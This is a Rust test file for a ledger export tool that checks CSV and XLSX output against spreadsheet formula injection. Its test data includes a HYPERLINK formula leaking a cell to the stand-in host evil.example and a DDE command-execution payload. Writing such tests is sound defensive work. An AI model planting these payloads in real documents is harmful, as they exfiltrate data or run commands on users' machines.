//! Formula injection: document texts and notes that a spreadsheet would run as formulas.
//! The CSV ledger writes each with a leading `'` (OWASP), the workbook as a plain string
//! cell, never a formula.

use calamine::{Data, Reader, Xlsx, open_workbook};
use duban::plan::{Note, ReqId};
use duban::store::{State, Store};

use super::support::Env;

/// What a spreadsheet would run: a link that leaks a cell, DDE command execution, and each
/// other formula start; a tab or carriage return first hides such a start from a reader
/// that trims.
const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-5天内完成",
];

/// The built-in plan with requirement 1.1.1's text, 1.1.2's deadline and units, and a note on
/// each of 2.1.1… carrying a formula.
fn injected() -> Env {
    let env = Env::new();
    let mut state = State::new(duban::plan::import::builtin());
    let at = chrono::NaiveDate::from_ymd_opt(2021, 9, 18)
        .and_then(|d| d.and_hms_opt(9, 0, 0))
        .expect("valid time");
    let plan = &mut state.plan;
    plan.get_mut(ReqId::new(1, 1, 1)).expect("1.1.1").text = FORMULAS[0].into();
    let r = plan.get_mut(ReqId::new(1, 1, 2)).expect("1.1.2");
    r.deadline_raw = FORMULAS[7].into();
    r.units_raw = "@市发改局".into();
    plan.derive();
    for (req, formula) in plan.requirements_mut().skip(2).zip(FORMULAS) {
        req.notes.push(Note {
            at,
            text: formula.into(),
        });
    }
    Store::new(env.path("state.json"))
        .save(&state)
        .expect("state saved");
    env
}

#[test]
fn csv_cells_that_start_a_formula_get_a_quote() {
    let env = injected();
    env.run(super::support::TODAY, &["export", "-o", "台账.csv"]);
    let bytes = std::fs::read(env.path("台账.csv")).expect("read");
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("BOM");
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(body)
        .records()
        .map(|r| r.expect("record"))
        .collect();
    let quoted = |s: &str| format!("'{s}");
    assert_eq!(&rows[0][3], quoted(FORMULAS[0]));
    assert_eq!(&rows[1][6], quoted(FORMULAS[7]), "a deadline cell");
    assert_eq!(&rows[1][4], "'@市发改局", "a unit cell");
    for (row, formula) in rows[2..].iter().zip(FORMULAS) {
        assert_eq!(&row[9], quoted(formula), "note {formula:?}");
        // Taking the one `'` off gives the exact text back.
        assert_eq!(&row[9][1..], formula);
    }
    // Nothing else changes: ids, dates and the other texts are as they were.
    assert_eq!(&rows[0][0], "1.1.1");
    assert_eq!(&rows[0][7], "2021-08-15");
    assert!(
        rows[10..].iter().all(|r| !r[3].starts_with('\'')),
        "plain requirement texts"
    );
}

#[test]
fn the_workbook_holds_formulas_as_plain_text() {
    let env = injected();
    env.run(super::support::TODAY, &["export", "-o", "周报.xlsx"]);
    let mut wb: Xlsx<_> = open_workbook(env.path("周报.xlsx")).expect("workbook");
    for name in wb.sheet_names() {
        let formulas = wb.worksheet_formula(&name).expect("sheet");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "sheet {name} has formulas"
        );
    }
    let ledger = wb.worksheet_range("工作台账").expect("ledger");
    let cells: Vec<&Data> = ledger.used_cells().map(|(_, _, c)| c).collect();
    for text in [FORMULAS[0], FORMULAS[1], FORMULAS[4], FORMULAS[7]] {
        assert!(
            cells.iter().any(|c| **c == Data::String(text.into())),
            "{text:?} is a string cell, unquoted"
        );
    }
}
